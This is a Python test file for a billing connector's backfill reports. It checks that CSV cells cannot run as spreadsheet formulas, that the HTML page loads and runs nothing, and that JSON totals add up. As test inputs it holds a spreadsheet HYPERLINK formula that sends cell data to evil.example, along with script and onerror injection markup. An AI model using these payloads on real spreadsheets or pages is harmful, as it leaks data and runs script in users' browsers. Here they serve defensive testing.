"""The report: safe to open, complete, and written without holding all of it."""

import csv
import gc
import io
import json
import weakref
from datetime import date
from html.parser import HTMLParser
from typing import Any

import pytest

from connector import batches, sync
from connector.backfill import planning
from connector.backfill.document import item_json, overview_json
from connector.backfill.overview import all_items
from connector.backfill.planned import planned_item
from connector.backfill.report_csv import COLUMNS, cell, write_csv
from connector.backfill.report_html import write_html
from connector.journal import BackfillItem
from connector.plan.plan import Plan
from tests.backfill.company import ramps
from tests.backfill.conftest import Filling
from tests.wiring import TODAY, World

EVIL = '=HYPERLINK("https://evil.example?x="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (EVIL, f"'{EVIL}"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("\uff1d1", "'\uff1d1"),
        ("plain = text", "plain = text"),
        ("", ""),
        (None, ""),
        (-3, "-3"),
        (date(2026, 12, 1), "2026-12-01"),
    ],
)
def test_cells_that_would_run_are_neutralised(value: object, shown: str):
    assert cell(value) == shown


def item(**values: object) -> BackfillItem:
    known = {"record": "8018Z", "state": "done", "outcome": "applied", "currency": "jpy", "sold": 1200, "to_bill": 1500}
    return BackfillItem(**{**known, **values})  # type: ignore[arg-type]


def rows_of(*items: BackfillItem) -> list[dict[str, str]]:
    file = io.StringIO()
    write_csv(file, items)
    file.seek(0)
    return list(csv.DictReader(file))


def test_amounts_stay_numbers_also_negative_ones():
    (row,) = rows_of(item(elsewhere=0, name=EVIL))
    assert (row["sold"], row["to_bill"], row["difference"], row["billed_elsewhere"]) == ("1200", "1500", "-300", "0")
    assert row["customer"] == f"'{EVIL}"
    (row,) = rows_of(item(currency="kwd", sold=1200, to_bill=1201))
    assert (row["sold"], row["difference"]) == ("1.200", "-0.001")


def test_every_text_of_a_row_is_neutralised():
    texts = {"name": EVIL, "words": EVIL, "contract_key": EVIL, "record": EVIL, "fingerprint": EVIL, "verdict": EVIL}
    issue = {"code": EVIL, "severity": "block", "message": EVIL, "remedy": EVIL}
    ids = dict.fromkeys(("schedule.id", "invoice.id", "customer.id", "link"), EVIL)
    (row,) = rows_of(item(**texts, issues=[issue], ids=ids, change=EVIL, outcome=EVIL, reasons=[EVIL], currency=None))
    assert set(row) == set(COLUMNS)
    assert not any(value.startswith("=") for value in row.values())
    assert sum(value.startswith("'=") for value in row.values()) == 15


class Page(HTMLParser):
    """Collects what a browser would fetch or run, and the text."""

    def __init__(self) -> None:
        super().__init__()
        self.fetched: list[str] = []
        self.links: list[str] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag in {"script", "img", "iframe", "link", "object", "embed"} or any(n.startswith("on") for n in given):
            self.fetched.append(tag)
        if tag == "a":
            self.links.append(str(given.get("href")))

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def html_of(filling: Filling, *items: BackfillItem) -> Page:
    page = filling.page(filling.planned())
    file = io.StringIO()
    write_html(file, page, items or all_items(filling.journal, page.backfill))
    parsed = Page()
    parsed.feed(file.getvalue())
    assert "@import" not in file.getvalue()
    assert "url(" not in file.getvalue()
    return parsed


def test_the_page_needs_nothing_and_runs_nothing(world: World):
    filling = Filling(world.desk())
    markup = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    issue = {"code": markup, "severity": "block", "message": markup, "remedy": markup}
    bad = item(name=markup, words=markup, issues=[issue], ids={"schedule.id": markup, "link": f"javascript:{markup}"})
    good = item(ids={"schedule.id": "sub_sched_1", "link": "https://dashboard.stripe.com/test/x"})
    page = html_of(filling, bad, good)
    assert page.fetched == []
    assert page.links == ["https://dashboard.stripe.com/test/x"]


def test_the_page_tells_of_every_contract_with_money_and_remedy(world: World):
    filling = Filling(world.desk())
    done = filling.applied(filling.planned())
    page = filling.page(done)
    file = io.StringIO()
    write_html(file, page, all_items(filling.journal, done))
    text = file.getvalue()
    for one in filling.items(done).values():
        assert one.record in text
    assert "Sell whole units" in text
    assert "162,000.00 USD" in text
    assert done.digest is not None
    assert done.digest in text
    assert f"by {done.started_by}" in text


def test_the_document_adds_up_and_is_json(world: World):
    filling = Filling(world.desk())
    done = filling.applied(filling.planned())
    document = json.loads(json.dumps(overview_json(filling.page(done))))
    contracts = json.loads(json.dumps([item_json(each) for each in filling.items(done).values()]))
    assert sum(document["outcomes"].values()) == document["selected"] == len(contracts)
    for currency in document["money"]["applied"]:
        mine = [c for c in contracts if c["outcome"] == "applied" and c["currency"] == currency["currency"]]
        assert sum(int(c["sold"]) for c in mine) == int(currency["sold"])
        assert sum(int(c["to_bill"]) for c in mine) == int(currency["to_bill"])
        assert sum(map(int, currency["reasons"].values())) == int(currency["difference"])


def test_no_more_plans_are_alive_than_are_in_hand(monkeypatch: pytest.MonkeyPatch):
    """Whatever is done, memory must not grow with the contracts: plans live as long as their batch."""
    count, batch = 40, 4
    plans: list[weakref.ref[Plan]] = []

    begin = Plan.__init__

    def begun(plan: Plan, *given: Any, **named: Any) -> None:
        begin(plan, *given, **named)
        plans.append(weakref.ref(plan))

    monkeypatch.setattr(Plan, "__init__", begun)  # plans are copied too: every one counts
    with World(records=ramps(TODAY, count)) as world:
        filling = Filling(world.desk())
        for where, name in ((filling.desk.crm, "batch"), (batches, "BATCH"), (sync, "BATCH")):
            monkeypatch.setattr(where, name, batch)
        alive: list[int] = []
        keep = planned_item

        def looked(*given: object) -> BackfillItem:
            alive.append(_alive(plans))
            return keep(*given)  # type: ignore[arg-type]

        monkeypatch.setattr(planning, "planned_item", looked)
        planned = filling.planned()
        shown = len(alive)
        filling.applied(planned, done=lambda _item: alive.append(_alive(plans)))
        assert (shown, len(alive)) == (count, 2 * count)
        assert max(alive) <= 3 * batch
        assert min(alive) >= 1, "the checker sees plans"


def _alive(plans: list["weakref.ref[Plan]"]) -> int:
    gc.collect(1)
    return sum(each() is not None for each in plans)
